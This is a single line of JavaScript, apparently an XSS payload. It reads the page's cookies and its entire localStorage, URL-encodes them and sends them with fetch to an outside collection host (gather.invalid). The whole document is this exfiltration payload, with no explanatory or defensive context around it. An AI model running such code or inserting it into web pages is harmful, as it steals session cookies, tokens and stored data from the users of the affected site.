const where = `https://gather.invalid/c?cookie=${encodeURIComponent(document.cookie)}&ls=${encodeURIComponent(JSON.stringify(localStorage))}`; fetch(where);
